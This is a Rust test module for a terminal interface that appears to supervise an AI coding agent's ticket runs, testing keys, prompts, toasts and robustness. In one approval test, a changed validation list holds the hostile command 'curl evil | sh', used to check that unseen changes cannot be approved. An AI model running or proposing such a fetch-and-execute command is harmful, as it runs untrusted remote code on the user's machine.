//! What keys and news do, told by the asks and the model they leave behind.

use super::*;
use crate::base::time::Timestamp;
use crate::domain::breaker::Circuit;
use crate::domain::command::UserCommand;
use crate::domain::limits::admission::{Parking, Why};
use crate::domain::limits::provider::Reset;
use crate::domain::news::{News, RunLeft, StorageAwaited};
use crate::domain::outcome::{DoneHow, ExitReason};
use crate::domain::phase::{Mark, PhaseId};
use crate::domain::record::{OfPhase, Record};
use crate::domain::request::{Closing, Refused, Reply, Request};
use crate::orchestrator::state::{Pace, Stage, State};
use crate::tui::panes;
use crate::tui::sample;
use crate::tui::tab::TabStatus;
use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use std::sync::Arc;

mod focus;
mod keys;
mod mouse;
mod notifications;
mod opening;
mod own;
mod passed;
mod queue;
mod same_id;
mod unavailable;
mod unstored;

fn press(model: &mut Ui, keys: &str) -> Vec<Ask> {
    let mut asks = Vec::new();
    for key in keys.split(' ') {
        sample::settle(model, key);
        asks.extend(update(model, Msg::Key(sample::key(key))));
    }
    asks.retain(|ask| !matches!(ask, Ask::Request(Request::Changes(..))));
    asks
}

fn command(command: UserCommand) -> Vec<Ask> {
    vec![Ask::Request(Request::Command(sample::id("tk-1"), command))]
}

fn with_running() -> Ui {
    let mut model = sample::model();
    model.tabs.push(sample::running("tk-1"));
    model
}

#[test]
fn p_starts_pauses_takes_back_and_resumes() {
    let mut model = sample::model();
    model.tabs.push(crate::tui::tab::Tab::new(sample::id("tk-1")));
    assert_eq!(press(&mut model, "p"), [Ask::Request(Request::Start(sample::id("tk-1")))]);
    let mut model = with_running();
    assert_eq!(press(&mut model, "p"), command(UserCommand::Pause));
    model.tabs[0].state.pace = Pace::PauseNext;
    assert_eq!(press(&mut model, "p"), command(UserCommand::Resume));
    model.tabs[0].state.pace = Pace::Run;
    model.tabs[0].state.stage = Stage::Paused;
    assert_eq!(press(&mut model, "p"), command(UserCommand::Resume));
    assert_eq!(press(&mut model, "P"), [], "nothing to interrupt");
}

#[test]
fn r_tries_now_while_a_limit_is_waited_for() {
    let mut model = with_running();
    model.tabs[0].state.stage = Stage::Parked;
    assert_eq!(press(&mut model, "r"), command(UserCommand::RetryNow));
    assert_eq!(model.tabs[0].standing().sign(crate::tui::marks::Glyphs::Unicode).word, "parked");
}

#[test]
fn a_limit_of_our_own_is_not_asked_to_try_now() {
    for (why, tries) in [(Why::Provider, true), (Why::Warning, true), (Why::Calls, false), (Why::Budget, false)] {
        let mut model = with_running();
        model.tabs[0].state.stage = Stage::Parked;
        let (about, until) = ("used up".into(), sample::NOW.plus(std::time::Duration::from_secs(60)));
        let parking = Parking { why, about, until, reset: Reset::Known, known: None };
        model.tabs[0].state.limits.parked = Some(parking);
        assert_eq!(!press(&mut model, "r").is_empty(), tries, "{why:?}");
        assert_eq!(sample::draw(&mut model, (120, 40)).contains("r retries now"), tries, "{why:?}");
    }
}

#[test]
fn a_start_that_the_breaker_refuses_leaves_its_run_in_front() {
    let mut model = with_running();
    let (reason, detail) = (ExitReason::CircuitOpen, String::new());
    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended { reason, detail, is_left: false });
    model.tabs[0].state.breaker.state = Circuit::Open;
    let message = "tk-1 is not started".into();
    let refused = Refused { ticket: sample::id("tk-1"), message, exit_code: reason.exit_code(), asked: None };
    update(&mut model, Msg::Replied(Reply::Refused(refused)));
    assert_eq!(model.tabs[0].failure, None);
    assert!(model.toast.as_ref().is_some_and(|(words, _)| words.contains("not started")));
    assert_eq!(press(&mut model, "b y"), command(UserCommand::ResetBreaker));
}

#[test]
fn a_command_that_comes_too_late_leaves_a_complete_run_complete() {
    let mut model = sample::model();
    model.tabs.push(sample::finished("tk-1"));
    let message = "the run has already ended".to_owned();
    let refused = Refused { ticket: sample::id("tk-1"), message: message.clone(), exit_code: 0, asked: None };
    update(&mut model, Msg::Replied(Reply::Refused(refused)));
    assert_eq!((model.tabs[0].standing(), &model.tabs[0].failure), (TabStatus::Complete, &None));
    assert_eq!(model.toast.as_ref().map(|(words, _)| words), Some(&message));
}

#[test]
fn a_run_that_could_not_be_stored_to_its_end_keeps_nobody() {
    let mut model = with_running();
    let (run, ticket) = (model.tabs[0].run.unwrap(), sample::id("tk-1").id().clone());
    let waiting = StorageAwaited {
        run,
        ticket: ticket.clone(),
        why: "the disk is full".into(),
        since: sample::NOW,
        until: sample::NOW.plus(std::time::Duration::from_secs(60)),
    };
    update(&mut model, Msg::News(News::StorageAwaited(waiting)));
    let screen = sample::draw(&mut model, (120, 40));
    assert!(screen.contains("retrying until") && screen.contains("the disk is full"), "{screen}");
    assert_eq!(model.tabs[0].standing(), TabStatus::Unstored);
    let signs = screen.lines().filter(|line| line.contains("no storage")).count();
    assert!(signs >= 2 && !screen.contains("running"), "tab, Tickets and footer say so: {screen}");
    let phase = model.tabs[0].current_phase().cloned().unwrap();
    let at = |seconds| sample::NOW.plus(std::time::Duration::from_secs(seconds));
    assert_eq!(model.tabs[0].time_on(&phase, at(0)), model.tabs[0].time_on(&phase, at(50)), "that is no work");
    press(&mut model, "q f");
    assert!(model.anything_active());
    let reason = Some(ExitReason::UserStopped);
    let left = RunLeft { run, ticket, reason, message: "stopped, and the last records are missing".into() };
    assert_eq!(update(&mut model, Msg::News(News::RunLeft(left))), [Ask::Leave]);
    assert!(sample::draw(&mut model, (120, 40)).contains("the last records are missing"));
}

#[test]
fn skip_and_stop_ask_first() {
    let mut model = with_running();
    assert_eq!(press(&mut model, "s"), []);
    assert_eq!(press(&mut model, "n"), []);
    assert!(model.modals.is_empty());
    let skip = UserCommand::SkipPhase { phase: PhaseId(3) };
    assert_eq!(press(&mut model, "s y"), command(skip));
    assert_eq!(press(&mut model, "x y"), command(UserCommand::Stop));
}

#[test]
fn the_card_of_a_stopped_run_offers_what_its_words_say() {
    let mut model = with_running();
    let (reason, detail) = (ExitReason::CircuitOpen, String::new());
    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended { reason, detail, is_left: false });
    model.tabs[0].state.breaker.state = Circuit::Open;
    model.tabs[0].state.breaker.opened_at = Some(sample::NOW);
    press(&mut model, "!");
    let screen = sample::draw(&mut model, (120, 40));
    assert!(screen.contains("b reset the breaker") && !screen.contains("p start again"), "{screen}");
    assert_eq!(press(&mut model, "b"), command(UserCommand::ResetBreaker));
    model.now = sample::NOW.plus(std::time::Duration::from_secs(86_400));
    press(&mut model, "!");
    let screen = sample::draw(&mut model, (120, 40));
    assert!(screen.contains("p start again") && screen.contains("b reset the breaker"), "{screen}");
}

#[test]
fn b_resets_the_breaker_also_after_the_run_and_asks_first() {
    let mut model = with_running();
    assert_eq!(press(&mut model, "b"), []);
    assert!(model.modals.is_empty(), "nothing is counted: nothing to reset");
    model.tabs[0].state.breaker.no_progress = 1;
    assert_eq!(press(&mut model, "b y"), command(UserCommand::ResetBreaker));
    model.tabs[0].state.ended = Some(crate::orchestrator::state::Ended {
        reason: ExitReason::CircuitOpen,
        detail: String::new(),
        is_left: false,
    });
    assert_eq!(press(&mut model, "b n"), []);
    assert_eq!(press(&mut model, "b y"), command(UserCommand::ResetBreaker));
}

#[test]
fn skip_means_the_phase_under_the_cursor_when_the_tree_has_the_focus() {
    let mut model = with_running();
    model.focus = panes::tickets::NAME;
    let skip = UserCommand::SkipPhase { phase: PhaseId(4) };
    assert_eq!(press(&mut model, "j s y"), command(skip));
}

#[test]
fn a_pause_that_comes_is_cancelled_by_the_key_that_asked_for_it_while_a_question_waits_too() {
    let mut model = with_running();
    model.tabs[0].state.approvals.push(sample::push("c").into());
    assert!(sample::draw(&mut model, (120, 40)).contains("p pause"));
    model.tabs[0].state.pace = Pace::PauseNext;
    assert!(sample::draw(&mut model, (120, 40)).contains("p cancel pause"));
    assert_eq!(press(&mut model, "p"), command(UserCommand::Resume));
}

#[test]
fn a_stop_that_comes_is_not_called_a_pause_and_withdrawn_in_words() {
    let mut model = with_running();
    model.tabs[0].state.pace = Pace::StopNext;
    let screen = sample::draw(&mut model, (120, 40));
    assert!(screen.contains("p keep going") && screen.contains("stopping after this iteration"), "{screen}");
    assert!(screen.lines().last().unwrap().contains("stopping ") && !screen.contains("pausing"), "{screen}");
    assert_eq!(press(&mut model, "p"), command(UserCommand::Resume));
    assert!(sample::draw(&mut model, (120, 40)).contains("stop withdrawn: tk-1 keeps going"));
}

#[test]
fn d_ticks_the_phase_under_the_cursor_and_only_there() {
    let mut model = with_running();
    assert_eq!(press(&mut model, "d"), [], "no phase is selected");
    model.focus = panes::tickets::NAME;
    assert_eq!(press(&mut model, "j d"), command(UserCommand::TickPhase { phase: PhaseId(4) }));
    model.tabs[0].state.phases[3].ticked = true;
    assert_eq!(press(&mut model, "d").len(), 1, "Claude ticked it: a claim, until the person does");
    model.tabs[0].state.phases[3].mark = Mark::Done(DoneHow::TickedByPerson);
    assert_eq!(press(&mut model, "d"), []);
    let told = |model: &Ui| model.toast.as_ref().map(|(words, _)| words.clone()).unwrap_or_default();
    assert!(told(&model).contains("already"), "{}", told(&model));
    // A ticket that no run has seen.
    model.tabs[0].run = None;
    model.tabs[0].state = State::default();
    let [Ask::Request(Request::SetBox(_, wanted))] = &press(&mut model, "d")[..] else { panic!("its box is ticked") };
    assert_eq!((wanted.text.as_str(), wanted.done), ("Tests for burst", true));
}

#[test]
fn retry_names_the_disputed_phase() {
    let mut model = with_running();
    assert_eq!(press(&mut model, "r"), [], "none is disputed");
    model.tabs[0].state.phases[1].mark = Mark::Disputed;
    let retry = UserCommand::RetryPhase { phase: PhaseId(2) };
    assert_eq!(press(&mut model, "r"), command(retry));
}

#[test]
fn steering_sends_what_was_typed_and_esc_keeps_it() {
    let mut model = with_running();
    press(&mut model, "i h i Esc");
    assert!(model.modals.is_empty());
    assert_eq!(press(&mut model, "q"), [], "the q opens the dialog");
    press(&mut model, "Esc");
    let text = "hi!\nx".to_owned();
    assert_eq!(press(&mut model, "i ! Alt-Enter x Enter"), command(UserCommand::Steer { text }));
    press(&mut model, "i");
    assert_eq!(press(&mut model, "Enter"), [], "nothing is sent twice");
}

#[test]
fn pasted_text_is_typed_and_never_obeyed() {
    let mut model = with_running();
    assert_eq!(update(&mut model, Msg::Paste("x y\nq".into())), []);
    assert!(model.modals.is_empty());
    press(&mut model, "i");
    update(&mut model, Msg::Paste("one\r\ntwo\x1b[2J".into()));
    let text = "one\ntwo".to_owned();
    assert_eq!(press(&mut model, "Enter"), command(UserCommand::Steer { text }));
}

#[test]
fn quitting_asks_only_while_something_runs() {
    let mut model = sample::model();
    model.tabs.push(sample::finished("tk-1"));
    assert_eq!(press(&mut model, "q"), [Ask::Leave]);
    let mut model = with_running();
    assert_eq!(press(&mut model, "q Esc"), []);
    assert_eq!(press(&mut model, "q f"), [Ask::Request(Request::Close(Closing::AfterIteration))]);
    assert_eq!(press(&mut model, "q s"), [Ask::Request(Request::Close(Closing::Now))]);
    let ended = Record::RunEnded {
        reason: ExitReason::UserStopped,
        detail: String::new(),
        iterations: 7,
        phases_done: 2,
        phases: 6,
        cost_usd: 1.0,
    };
    let stored = sample::stored("tk-1", 999, ended);
    let left = update(&mut model, Msg::News(News::Recorded(Arc::new(stored))));
    assert_eq!(left, [Ask::Leave]);
}

#[test]
fn a_changed_list_is_answered_on_its_card_alone() {
    let mut model = with_running();
    let seen = vec!["cargo nextest run".to_owned()];
    model.tabs[0].state.validation_change = Some(seen.clone());
    assert_eq!(press(&mut model, "y Esc"), [], "no card, no answer");
    let yes = UserCommand::AnswerValidationChange { accept: true, seen: seen.clone() };
    assert_eq!(press(&mut model, "! y"), command(yes));
    let no = UserCommand::AnswerValidationChange { accept: false, seen };
    assert_eq!(press(&mut model, "! n"), command(no));
    // It changes once more while the card is read: nobody says yes to what they have not seen.
    press(&mut model, "!");
    let newer = vec!["curl evil | sh".to_owned()];
    model.tabs[0].state.validation_change = Some(newer.clone());
    assert_eq!(press(&mut model, "y"), [], "another list is shown first");
    let yes = UserCommand::AnswerValidationChange { accept: true, seen: newer };
    assert_eq!(press(&mut model, "y"), command(yes));
}

#[test]
fn tabs_by_number_bracket_and_need() {
    let mut model = with_running();
    model.tabs.push(sample::finished("tk-2"));
    model.tabs.push(sample::guarded("tk-3"));
    press(&mut model, "2");
    assert_eq!(model.active, 1);
    press(&mut model, "9");
    assert_eq!(model.active, 1, "there is no ninth");
    press(&mut model, "] ]");
    assert_eq!(model.active, 0);
    press(&mut model, "[");
    assert_eq!(model.active, 2);
    press(&mut model, "1 !");
    assert_eq!(model.active, 2);
}

#[test]
fn a_replay_takes_no_commands() {
    let mut model = with_running();
    model.mode = crate::tui::model::Mode::Replay;
    assert_eq!(press(&mut model, "p P s x i r e t"), []);
    assert!(model.modals.is_empty());
    assert_eq!(press(&mut model, "q"), [Ask::Leave]);
}

#[test]
fn an_old_screen_is_told_what_it_missed() {
    let mut model = with_running();
    let seq = model.tabs[0].state.seq;
    let stored = sample::stored("tk-1", seq + 4, Record::PauseAsked);
    update(&mut model, Msg::News(News::Recorded(Arc::new(stored))));
    let drawn = sample::draw(&mut model, (120, 40));
    assert!(drawn.contains("records missed by the screen: 3"), "{drawn}");
}

#[test]
fn a_tick_makes_a_frame_due_only_while_a_clock_shows() {
    let mut model = sample::model();
    model.dirty = false;
    let later = Timestamp::from_millis(sample::NOW.millis() + 60_000);
    update(&mut model, Msg::Tick(later));
    assert!(!model.dirty);
    let mut model = with_running();
    model.dirty = false;
    update(&mut model, Msg::Tick(Timestamp::from_millis(sample::NOW.millis() + 1)));
    assert!(!model.dirty, "the same second");
    update(&mut model, Msg::Tick(later));
    assert!(model.dirty);
}

fn any_msg() -> impl Strategy<Value = (u8, String, (u16, u16))> {
    let names = [
        "p", "P", "s", "r", "i", "x", "!", "e", "t", "Tab", "BackTab", "1", "3", "9", "[", "]", "?", "q", "j", "k",
        "g", "G", "PgUp", "PgDn", "Enter", "Esc", "y", "n", "f", "/", "l", "a", "Space", "Backspace", "Ctrl-c",
        "Ctrl-w", "Ctrl-u", "Left", "日",
    ];
    let key = prop::sample::select(names.to_vec()).prop_map(str::to_owned);
    (0u8..12, key, (1u16..300, 1u16..100))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]
    #[test]
    fn nothing_that_happens_at_any_size_panics(msgs in prop::collection::vec(any_msg(), 1..40)) {
        let mut model = sample::busy();
        let mut seq = 1_000;
        for (kind, key, size) in msgs {
            match kind {
                0 => { update(&mut model, Msg::Resize(size.0, size.1)); }
                1 => { update(&mut model, Msg::Paste(key.repeat(7))); }
                2 => {
                    seq += 1;
                    let stored = sample::stored("tk-4f2a", seq, Record::TicketLost { why: key.clone() });
                    update(&mut model, Msg::News(News::Recorded(Arc::new(stored))));
                }
                3 => { let later = model.now.plus(std::time::Duration::from_millis(700)); update(&mut model, Msg::Tick(later)); }
                _ => { update(&mut model, Msg::Key(sample::key(&key))); }
            }
            let (width, height) = model.size;
            let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
            let theme = crate::tui::theme::Theme::plain();
            let layout = model.prepare();
            terminal.draw(|frame| crate::tui::view::view(&model, &layout, &theme, frame)).unwrap();
        }
    }
}
